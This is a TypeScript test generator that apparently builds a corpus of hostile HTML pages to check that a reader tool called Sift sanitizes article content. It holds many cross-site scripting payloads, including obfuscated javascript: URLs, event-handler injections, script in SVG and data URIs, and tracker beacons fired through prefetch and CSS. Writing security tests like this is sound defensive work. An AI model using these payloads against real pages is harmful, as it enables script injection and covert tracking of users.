        image: [`javascript:${JS(id('b'))}`, { url: `img/photo.png?${id('c')}" onerror="x` }],
        publisher: { '@type': 'Organization', name: `<svg onload="${JS(id('d'))}">` },
        datePublished: `"><script>${JS(id('e'))}</script>`,
        description: `<iframe src="${T(id('f'))}">`,
      }).replace(/</g, '\\u003c')}</script>`,
      `<meta name="description" content="<img src=x onerror=&quot;${JS(id('g'))}&quot;>">`,
      `<script type="application/ld+json">{ broken json <img src=x onerror="${JS(id('h'))}"></script>`,
    ],
    body: [],
  }));

  add(40, (id) => ({
    slug: 'link-elements-in-body', family: 'link prefetch, preconnect and imports in the body', prose: 3,
    body: [
      `<link rel="prefetch" href="${T(id('a'))}"><link rel="dns-prefetch" href="${T(id('b'))}">`,
      `<link rel="preconnect" href="${TRACKER}"><link rel="import" href="${T(id('c'))}">`,
      `<link rel="preload" href="${T(id('d'))}" as="fetch" crossorigin><link rel="prerender" href="${T(id('e'))}">`,
      `<link rel="stylesheet" href="data:text/css,*{background:url(${T(id('f'))})}">`,
      `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${T(id('g'))}"]}]}</script>`,
    ],
  }));

  add(41, (id) => ({
    slug: 'noscript-images', family: 'noscript images (Readability unwraps them with innerHTML)', prose: 4,
    body: [
      `<figure><img src="img/photo.png" data-src="img/photo.png" alt="placeholder"><noscript><img src="x" onerror="${JS(id('a'))}" alt="real"></noscript></figure>`,
      `<figure><img src="img/photo.png" class="lazy" alt="lazy"><noscript><img src="img/photo.png" srcset="${T(id('b'))} 2x" onload="${JS(id('c'))}"></noscript></figure>`,
      `<noscript><iframe src="${T(id('d'))}"></iframe><p>Enable scripts <a href="javascript:${JS(id('e'))}">here</a>.</p></noscript>`,
      `<p><img data-src="javascript:${JS(id('f'))}" data-srcset="${T(id('g'))} 1x" src="img/photo.png" alt="lazy attrs"></p>`,
    ],
  }));

  add(42, (id) => ({
    slug: 'named-entities-in-urls', family: 'named character references and mixed case in URLs', prose: 5,
    body: [
      `<p><a href="javascript&Tab;:${JS(id('a'))}">&amp;Tab;</a> <a href="java&NewLine;script:${JS(id('b'))}">&amp;NewLine;</a></p>`,
      `<p><a href="javascript&#58${JSQ(id('c'))}">Colon without semicolon</a></p>`,
      `<p><img src="img/photo.png" alt="x" usemap="#m"><map name="m"><area shape="rect" coords="0,0,9,9" href="javascript:${JS(id('d'))}"></map></p>`,
      `<p><a href="JaVa&#x0D;ScRiPt:${JS(id('e'))}">CR</a> <a href="jav&#x0A;ascript:${JS(id('f'))}">LF</a></p>`,
      `<p><a href="   &#x20;&#x0C;javascript:${JS(id('g'))}">Form feed</a></p>`,
    ],
  }));

  add(43, (id) => ({
    slug: 'entity-name-markup', family: 'entity names that look like markup in the highlighted text', prose: 0,
    head: [`<meta name="news_keywords" content="<mark onclick=alert('${id('a')}')>, Santo Amaro">`],
    body: [
      `<p>People call the depot &lt;mark onclick=alert('${id('a')}')&gt; on social media, next to Santo Amaro.</p>`,
      `<p>The conductor union, <a href="/tag/union" rel="tag">&lt;i onmouseover=alert('${id('b')}')&gt;Union</a>, met the mayor.</p>`,
      `<p>Another tag: <a href="/topics/x">"' onfocus=alert('${id('c')}') autofocus '</a>.</p>`,
    ],
  }));

  add(44, (id) => ({
    slug: 'svg-and-data-images', family: 'SVG and data images as article images', prose: 1,
    body: [
      `<p><img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3Cimage href='${encodeURIComponent(T(id('a')))}'/%3E%3Cscript%3E${encodeURIComponent(JSQ(id('b')))}%3C/script%3E%3C/svg%3E" alt="SVG with script"></p>`,
      `<p><img src="data:text/html,<script>${encodeURIComponent(JS(id('c')))}</script>" alt="HTML as image"></p>`,
      `<p><img src="img/photo.png" width="1" height="1" alt="${id('d')} pixel"> <img src="${T(id('e'))}" width="1" height="1" alt="tracker pixel"></p>`,
      `<p><img src="img/photo.png" style="background:url(${T(id('f'))})" alt="styled image"></p>`,
    ],
  }));

  return list;
}

export const HOSTILE_PAGES: HostilePage[] = pages();

/** Every payload id in a page's HTML. */
export function payloadIds(html: string): string[] {
  return [...new Set(html.match(/h\d\d[a-z](?![a-z])/g) ?? [])].sort();
}

export function renderHostilePage(page: HostilePage): string {
  const prose = PROSE[page.prose]!;
  const paras = prose.paragraphs;
  const gaps: string[][] = paras.map(() => []);
  page.body.forEach((html, i) => gaps[i % paras.length]!.push(html));
  const title = page.title ?? esc(prose.title);
  const figure = page.noImages
    ? ''
    : `<figure class="lead"><img src="img/photo.png" width="640" height="400" alt="${page.alt ?? esc(prose.caption)}"><figcaption>${page.caption ?? esc(prose.caption)}</figcaption></figure>\n`;
  const body = paras.map((text, i) => [`<p>${esc(text)}</p>`, ...gaps[i]!].join('\n')).join('\n');
  return `<!doctype html>
<html ${page.htmlAttrs ?? 'lang="en"'}>
<head>
<meta charset="utf-8">
<title>${title}</title>
${(page.head ?? []).join('\n')}
</head>
<body>
<!-- Sift hostile corpus: ${esc(page.family)}. Generated by e2e/security/write-hostile-pages.ts. -->
<header class="site"><nav><a href="/">Home</a> · <a href="/news/">News</a> · <a href="/about/">About</a></nav></header>
<main>
<article>
<h1>${page.h1 ?? esc(prose.title)}</h1>
<p class="byline">${page.byline ?? `By ${esc(prose.byline)}`}</p>
${figure}${body}
</article>
${(page.aside ?? []).join('\n')}
</main>
<footer><p>© Sift test corpus. All payloads are inert unless a reader runs them.</p></footer>
</body>
</html>
`;
}
